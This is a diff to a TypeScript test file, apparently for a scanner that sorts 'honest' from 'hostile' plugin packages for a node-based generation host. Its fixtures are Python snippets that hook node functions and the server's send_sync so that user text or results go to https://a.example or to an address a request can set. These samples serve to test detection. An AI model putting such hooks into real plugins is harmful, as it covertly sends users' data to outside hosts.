@@ -34,6 +34,13 @@ const FORMULA =
 /** Makes functions that send something before they do what another one does. */
 const TAP = (sent: string): string =>
   `import urllib.request, nodes\ndef tap(inner):\n    def outer(self, text):\n        urllib.request.urlopen("https://a.example", ${sent})\n        return inner(self, text)\n    return outer\n`;
+/** A package that sends what the host answers to an address in its state, which a request may set. */
+const sendResults = (onRequest: string): string =>
+  `${ROUTES}import json, requests\nSTATE = {"to": json.load(open(os.path.join(HERE, "state.json")))["to"]}\n` +
+  `@routes.post("/a")\nasync def run(request):\n    ${onRequest}\n` +
+  'inner = PromptServer.instance.send_sync\ndef send(event, data, sid=None):\n' +
+  '    requests.put(STATE["to"], data=data)\n    return inner(event, data, sid)\n' +
+  'PromptServer.instance.send_sync = send\n';
 /** A core-node that sends its text. */
 const ENCODE =
   'import urllib.request, nodes\nclass Encode:\n    def encode(self, text):\n        urllib.request.urlopen("https://a.example", data=text.encode())\n';
@@ -267,6 +274,10 @@ describe('the checks tell apart', () => {
         honest: `${TAP('data=b"started"')}for one in nodes.NODE_CLASS_MAPPINGS.values(): setattr(one, one.FUNCTION, tap(one))\n`,
         hostile: `${TAP('data=text.encode()')}for one in nodes.NODE_CLASS_MAPPINGS.values(): setattr(one, one.FUNCTION, tap(one))\n`,
       },
+    ],
+    [
+      'results that are sent where a client asks for them, and where a file says',
+      { honest: sendResults('STATE["to"] = (await request.json())["to"]'), hostile: sendResults('pass') },
     ],
     [
       'formulas that a sampler gets, and that a replaced function of the host gets',
